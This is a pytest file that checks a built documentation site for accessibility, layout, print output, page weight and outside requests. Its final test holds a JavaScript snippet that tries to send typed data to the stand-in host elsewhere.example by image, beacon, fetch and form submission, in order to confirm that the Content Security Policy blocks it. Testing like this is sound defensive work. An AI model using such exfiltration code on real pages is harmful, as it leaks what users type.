"""What holds for every page, the kitchen's too: each is opened once, and looked at from all sides."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import AbstractContextManager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

Opened = Callable[..., Any]
Watching = Callable[[Any, Any], AbstractContextManager[Opened]]
Violations = Callable[..., list[str]]

PARTS = 3
"""Each part of the pages is walked through by itself, so that processes of a run can share them."""

WIDTHS = (320, 768, 1024, 1600)
OF_COLOURS = ("color-contrast", "link-in-text-block")
"""The rules whose verdict depends on the colours; all others see the same page in light and in dark."""

DRAWN = """() => {
const ofText = (node) => node.nodeType === Node.TEXT_NODE && node.data.trim();
window.drawn = new Map();
for (const element of document.querySelectorAll("body *")) {
  if (![...element.childNodes].some(ofText) && !element.matches("input, select, textarea")) continue;
  if (!element.checkVisibility({ checkOpacity: true, checkVisibilityCSS: true })) continue;
  const names = [];
  for (let at = element; at; at = at.parentElement) {
    names.push([at.tagName, ...[...at.classList].sort(), ...at.getAttributeNames().sort()].join(" "));
  }
  const name = names.join(" < ");
  if (!window.drawn.has(name)) window.drawn.set(name, [element, element.closest("a") || element]);
}
return [...window.drawn.keys()];
}"""
"""What decides the colours of the texts of a page: their elements, and those around them, by their names,
classes, and attributes. The colours of each kind are judged once, where it shows first; to judge those of
every page whole takes four fifths of axe's time."""

TOO_WIDE = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
MOVING = """
[...document.querySelectorAll("*")].filter((element) => {
  const style = getComputedStyle(element);
  const times = `${style.transitionDuration},${style.animationDuration}`.split(",").map(parseFloat);
  return times.some((seconds) => seconds > 0.01) || style.scrollBehavior === "smooth";
}).map((element) => element.outerHTML.slice(0, 200))
"""
HIDDEN = """
[...document.querySelectorAll("article *")].filter((element) =>
  [...element.childNodes].some((node) => node.nodeType === Node.TEXT_NODE && node.data.trim())
  && !element.checkVisibility({ checkOpacity: true, checkVisibilityCSS: true })
  && !element.closest("[hidden], [role=status], details, button, option, script, style, svg")
  && !element.closest(".headerlink, .explain-bar")
).map((element) => element.outerHTML.slice(0, 200))
"""
"""Texts of an article that do not show and are not for now. (A drawing has its list; an answer unfolds.)"""

FURNITURE = """
[...document.querySelectorAll(
  "header, footer, .pages, .contents, .neighbours, .steps, .copy, .skip, .explain-bar, .explain-all")]
  .filter((element) => element.checkVisibility()).map((element) => element.outerHTML.slice(0, 200))
"""


@dataclass
class Seen:
    """What was seen on one page; each list is of what should not be."""

    name: str
    coloured: bool = False
    light: list[str] = field(default_factory=list)
    dark: list[str] = field(default_factory=list)
    moving: list[str] = field(default_factory=list)
    too_wide: list[int] = field(default_factory=list)
    hidden_on_paper: list[str] = field(default_factory=list)
    furniture_on_paper: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Walk:
    """Every page that was opened, and what went on meanwhile (as in `Watched`)."""

    pages: list[Seen]
    watched: Any

    def all(self, what: str) -> dict[str, list[Any]]:
        """Tell the pages where something is as it should not be."""
        return {seen.name: found for seen in self.pages if (found := getattr(seen, what))}


FRONT_PAGE = 300_000
"""Bytes of all that the front page loads. (Material's was 284 kB without the lessons' own.)"""


def files(folder: Path) -> list[Path]:
    found = sorted(folder.rglob("*.html"))
    assert len(found) > 10
    return found


def kinds(folder: Path) -> list[Path]:
    """Every page, but only a few of the errors': one template makes them, of text alone."""
    errors = files(folder / "errors")
    return sorted({*files(folder)} - {*errors}) + errors[:5]


@pytest.fixture(scope="session")
def drawn() -> set[str]:
    """Return what was drawn on the pages whose colours this process has judged: see `DRAWN`."""
    return set()


@pytest.fixture(
    scope="module", params=range(PARTS), ids=[f"part {number + 1}" for number in range(PARTS)]
)
def walk(
    request: pytest.FixtureRequest,
    built: Path,
    kitchen: Path,
    unpainted: Any,
    watching: Watching,
    axe: str,
    violations: Violations,
    new_watched: Callable[[], Any],
    drawn: set[str],
) -> Walk:
    """Open every page of a part as a file."""
    walk = Walk([], new_watched())
    todo = [*files(built), *files(kitchen)[:3]][request.param :: PARTS]
    with watching(unpainted, walk.watched) as opened:
        page = opened("about:blank", script=axe, reduced_motion="reduce")
        walk.pages.extend(look(page, file, violations, drawn) for file in todo)
    assert len(walk.pages) == len(todo) > 50
    return walk


def look(page: Any, file: Path, violations: Violations, drawn: set[str]) -> Seen:
    """Look at a page from all sides; `drawn` holds what was judged for its colours."""
    page.emulate_media(media="screen", color_scheme="light")
    _at(page, 1280).goto(file.as_uri())
    new = [name for name in page.evaluate(DRAWN) if name not in drawn]
    drawn.update(new)
    seen = Seen(file.name, coloured=bool(new), moving=page.evaluate(MOVING))
    seen.light = violations(page, kinds=new)
    if new:
        page.emulate_media(color_scheme="dark")
        seen.dark = violations(page, *OF_COLOURS, kinds=new)
    seen.too_wide = [width for width in WIDTHS if _at(page, width).evaluate(TOO_WIDE) > 0]
    page.emulate_media(media="print")
    seen.hidden_on_paper, seen.furniture_on_paper = page.evaluate(HIDDEN), page.evaluate(FURNITURE)
    return seen


def _at(page: Any, width: int) -> Any:
    page.set_viewport_size({"width": width, "height": 800})
    return page


def test_axe_finds_nothing_in_light_colours(walk: Walk) -> None:
    assert walk.all("light") == {}


def test_axe_finds_nothing_in_dark_colours(walk: Walk) -> None:
    assert walk.all("dark") == {}


def test_colours_are_judged_wherever_they_can_differ(walk: Walk) -> None:
    """On the pages that draw something else than those before; not on none, and not on all."""
    judged = [seen.coloured for seen in walk.pages]
    assert 0 < sum(judged) < len(judged) / 1.5


def test_no_page_is_wider_than_its_screen(walk: Walk) -> None:
    assert walk.all("too_wide") == {}


def test_nothing_moves_for_who_wants_no_motion(walk: Walk) -> None:
    assert walk.all("moving") == {}


def test_on_paper_every_explanation_is_open(walk: Walk) -> None:
    assert walk.all("hidden_on_paper") == {}


def test_on_paper_there_is_no_furniture(walk: Walk) -> None:
    assert walk.all("furniture_on_paper") == {}


def test_no_page_asks_for_anything_off_the_site_and_no_script_fails(walk: Walk) -> None:
    assert walk.watched.asked == []
    assert walk.watched.failed == []


def test_the_rules_are_all_there(looked: Opened, violations: Violations) -> None:
    """A page with faults, so that the tests above are known to see them."""
    page = looked("about:blank")
    page.set_content(
        "<article><p style='color: #999; transition: color 1s'>pale</p>"
        "<p style='display: none'>hidden</p>"
        "<div style='width: 2000px'>wide</div></article><header>Top</header>"
    )
    found = " ".join(violations(page))
    assert "color-contrast" in found
    assert "html-has-lang" in found
    (pale,) = (name for name in page.evaluate(DRAWN) if name.startswith("P style"))
    assert violations(page, *OF_COLOURS, kinds=[]) == []
    assert "color-contrast" in " ".join(violations(page, *OF_COLOURS, kinds=[pale]))
    assert page.evaluate(TOO_WIDE) > 0
    assert [len(page.evaluate(look)) for look in (MOVING, HIDDEN, FURNITURE)] == [1, 1, 1]


def test_without_a_script_every_text_shows(built: Path, looked: Opened) -> None:
    page = looked("about:blank", java_script_enabled=False)
    hidden = {}
    for file in kinds(built):
        page.goto(file.as_uri())
        if found := page.evaluate(HIDDEN) + _at(page, 390).evaluate(HIDDEN):
            hidden[file.name] = found
        _at(page, 1280)
    assert hidden == {}


def test_on_a_server_nothing_is_asked_of_anybody_else(
    built: Path, served: str, looked: Opened
) -> None:
    page, answers = looked("about:blank"), []
    page.on("response", lambda answer: answers.append(answer))
    for file in kinds(built):
        page.goto(f"{served}{file.relative_to(built).as_posix()}")
    assert len(answers) > len(kinds(built)) > 20
    assert [answer.url for answer in answers if not answer.url.startswith(served)] == []


def test_the_front_page_is_small(served: str, looked: Opened) -> None:
    page, answers = looked("about:blank"), []
    page.on("response", lambda answer: answers.append(answer))
    page.goto(served, wait_until="networkidle")
    assert len(answers) >= 7
    assert sum(len(answer.body()) for answer in answers) < FRONT_PAGE


def test_a_page_that_asks_for_something_elsewhere_is_noticed(opened: Opened, watched: Any) -> None:
    page = opened("about:blank")
    page.set_content("<img src='http://elsewhere.example/a.png'><script>nowhere()</script>")
    page.wait_for_load_state()
    assert watched.asked == ["http://elsewhere.example/a.png"]
    assert "nowhere is not defined" in watched.failed
    watched.asked.clear()
    watched.failed.clear()


BEACONS = """
async () => {
  const image = new Image();
  image.src = "http://elsewhere.example/?typed";
  await new Promise((done) => { image.onerror = image.onload = done; });
  navigator.sendBeacon("http://elsewhere.example/", "typed");
  await fetch("http://elsewhere.example/", { method: "POST", body: "typed" }).catch(() => {});
  const form = Object.assign(document.createElement("form"), { action: "http://elsewhere.example/" });
  document.body.append(form);
  form.submit();
}
"""
"""What a script would do that wanted to carry off what one types."""


@pytest.mark.parametrize("where", ["a folder", "a server"])
def test_the_browser_lets_nothing_leave_a_page(
    built: Path, served: str, opened: Opened, watched: Any, where: str
) -> None:
    page = opened(f"{served if where == 'a server' else built.as_uri() + '/'}index.html")
    page.evaluate(BEACONS)
    page.wait_for_timeout(200)
    assert watched.asked == []
    assert len(watched.failed) >= 4
    assert [said for said in watched.failed if "Content Security Policy" not in said] == []
    watched.failed.clear()
